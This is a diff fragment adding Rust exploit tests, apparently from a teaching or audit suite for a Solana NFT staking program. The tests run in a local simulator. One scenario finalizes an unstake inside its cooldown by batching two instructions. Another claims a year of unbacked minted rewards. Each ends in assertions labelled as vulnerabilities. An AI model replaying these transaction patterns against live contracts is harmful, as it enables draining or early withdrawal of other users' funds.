+        let asset = state.asset.pubkey();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection);
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset);
+
+        println!("\n[Exploit] Requesting and finalizing the unstake in one transaction...");
+        let request_ix = build_request_unstake_ix(&state.owner.pubkey(), &asset, &collection, &stake_record_pda);
+        let finalize_ix = build_finalize_unstake_ix(
+            &state.owner.pubkey(),
+            &state.authority.pubkey(),
+            &state.owner.pubkey(),
+            &asset,
+            &collection,
+            &collection_state_pda,
+        );
+        send_tx(
+            &mut state.svm,
+            &[request_ix, finalize_ix],
+            &state.owner,
+            &[&state.owner, &state.authority],
+        )
+    }
+
+    fn assert_impact(&self, state: &mut CooldownState) -> u64 {
+        let (collection_state_pda, _) = derive_collection_state_pda(&state.collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&state.asset.pubkey());
+        let clock: solana_sdk::clock::Clock = state.svm.get_sysvar();
+
+        let (requested_at, cooldown_ends_at) = get_stake_record_cooldown(&state.svm, &stake_record_pda);
+        assert_eq!(cooldown_ends_at, requested_at + UNSTAKE_COOLDOWN);
+        assert!(
+            clock.unix_timestamp < cooldown_ends_at,
+            "VULNERABILITY: Finalized before the cooldown ended"
+        );
+
+        let (_, total_staked) = get_collection_state(&state.svm, &collection_state_pda);
+        assert_eq!(total_staked, 0, "Asset already unstaked");
+        println!(
+            "[Impact] Asset thawed {} seconds before its cooldown ended",
+            cooldown_ends_at - clock.unix_timestamp
+        );
+
+        // No tokens move; capital left the pool a full cooldown early
+        0
+    }
+}
+
+#[test]
+fn test_exploit_skipped_unstake_cooldown() {
+    run_exploit(&SkippedUnstakeCooldown);
+}
+
+// Test 8: Rewards minted without funding
+// Claims mint new reward supply, so a year of staking pays out a year of
+// rewards that nobody ever deposited
+struct UnfundedRewardEmissions;
+
+const ONE_YEAR: u64 = 365 * ONE_DAY;
+
+struct EmissionState {
+    svm: LiteSVM,
+    owner: Keypair,
+    collection: Keypair,
+    asset: Keypair,
+}
+
+impl ExploitScenario for UnfundedRewardEmissions {
+    type State = EmissionState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V008",
+            title: "Unfunded Reward Emissions",
+            severity: Severity::High,
+            lesson: "Pay rewards from a vault funded up front and stop accrual when the funding runs out",
+        }
+    }
+
+    fn setup(&self) -> EmissionState {
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let owner = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let collection = Keypair::new();
+        let asset = Keypair::new();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset.pubkey());
+        let (reward_config_pda, _) = derive_reward_config_pda(&collection.pubkey());
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&collection.pubkey());
+
+        let create_collection_ix = build_create_collection_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Emission Collection".to_string(),
+            "https://example.com/collection.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, create_collection_ix, &authority, &[&authority, &collection]);
+
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Emission NFT".to_string(),
+            "https://example.com/nft.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, mint_nft_ix, &authority, &[&authority, &asset]);
+
+        let init_reward_ix = build_init_reward_config_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &reward_config_pda,
+            &reward_mint_pda,
+            REWARD_RATE,
+        );
+        send_tx_expect_success(&mut svm, init_reward_ix, &authority, &[&authority]);
+        println!("[Setup] Rewards at {} per second, nothing deposited to back them", REWARD_RATE);
+
+        let stake_ix = build_stake_ix(
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &owner.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &stake_record_pda,
+            &MPL_CORE_ID,
+        );
+        send_tx_expect_success(&mut svm, stake_ix, &owner, &[&owner, &authority]);
+        advance_time(&mut svm, ONE_YEAR);
+        println!("[Setup] Owner staked one NFT for a year");
+
+        EmissionState { svm, owner, collection, asset }
+    }
+
+    fn exploit(&self, state: &mut EmissionState) -> TransactionResult {
+        let collection = state.collection.pubkey();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection);
+        let (reward_config_pda, _) = derive_reward_config_pda(&collection);
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&collection);
+        let (rarity_config_pda, _) = derive_rarity_config_pda(&collection);
+
+        println!("\n[Exploit] Claiming a year of rewards from an unfunded collection...");
+        let claim_ix = build_claim_rewards_ix(
+            &state.owner.pubkey(),
+            &state.asset.pubkey(),
+            &collection,
+            &collection_state_pda,
+            &reward_config_pda,
+            &rarity_config_pda,
+            &reward_mint_pda,
+            String::new(),
+            None,
+        );
+        send_ix(&mut state.svm, claim_ix, &state.owner)
+    }
+
+    fn assert_impact(&self, state: &mut EmissionState) -> u64 {
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&state.collection.pubkey());
+        let owner_reward_account =
+            spl_associated_token_account::get_associated_token_address(&state.owner.pubkey(), &reward_mint_pda);
+        let balance = get_token_balance(&state.svm, &owner_reward_account);
+        assert_eq!(balance, ONE_YEAR * REWARD_RATE);
+
+        let supply = get_mint_supply(&state.svm, &reward_mint_pda);
+        assert_eq!(supply, balance, "VULNERABILITY: Every reward paid is new supply");
+        println!("[Impact] Minted {} reward base units with nothing deposited", supply);
+
+        // Entire payout is unbacked
+        supply
+    }
+}
+
+#[test]
+fn test_exploit_unfunded_reward_emissions() {
+    run_exploit(&UnfundedRewardEmissions);
+}